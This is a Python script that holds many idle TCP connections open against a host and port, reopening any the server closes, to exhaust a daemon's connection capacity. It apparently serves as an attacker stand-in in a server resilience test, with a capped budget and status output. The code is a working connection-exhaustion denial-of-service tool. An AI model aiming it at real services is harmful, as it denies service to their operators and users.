"""Hold idle TCP connections to a port, as another user would to exhaust a daemon (stdlib only).

Usage: flooder.py HOST PORT COUNT

Opens COUNT connections that send nothing and keeps them open: those the server
closes are opened again every REFILL seconds, as an attacker would, at most
200 * COUNT times in all.
Prints ``READY <open>`` once the first COUNT attempts are made, then runs until
its stdin is closed, closes everything and prints ``DONE <connects> <closed by
server> <failed connects>``.  Run as the attacker with the system Python.
"""

from __future__ import annotations

import selectors
import socket
import sys
import time

ATTEMPT_TIMEOUT = 0.5  # a connect the server's full backlog leaves pending counts as failed
REFILL = 0.1


def main() -> int:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sel = selectors.DefaultSelector()
    sel.register(sys.stdin, selectors.EVENT_READ, "stdin")
    connects = closed = failed = 0
    budget = 200 * count

    def open_one() -> None:
        nonlocal connects, failed, budget
        budget -= 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(ATTEMPT_TIMEOUT)
        try:
            s.connect((host, port))
        except OSError:
            s.close()
            failed += 1
            return
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, "conn")
        connects += 1

    for _ in range(count):
        open_one()
    print(f"READY {len(sel.get_map()) - 1}", flush=True)
    running = True
    next_refill = time.monotonic() + REFILL
    while running:
        for key, _ in sel.select(timeout=max(0.0, next_refill - time.monotonic())):
            if key.data == "stdin":
                if not sys.stdin.buffer.read1(4096):
                    running = False
                continue
            s = key.fileobj
            assert isinstance(s, socket.socket)
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server closed it: open another
                sel.unregister(s)
                s.close()
                closed += 1
        if time.monotonic() >= next_refill:
            next_refill = time.monotonic() + REFILL
            for _ in range(min(count - (len(sel.get_map()) - 1), budget)):
                open_one()
    for key in list(sel.get_map().values()):
        if key.data == "conn":
            key.fileobj.close()  # type: ignore[union-attr]
    print(f"DONE {connects} {closed} {failed}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
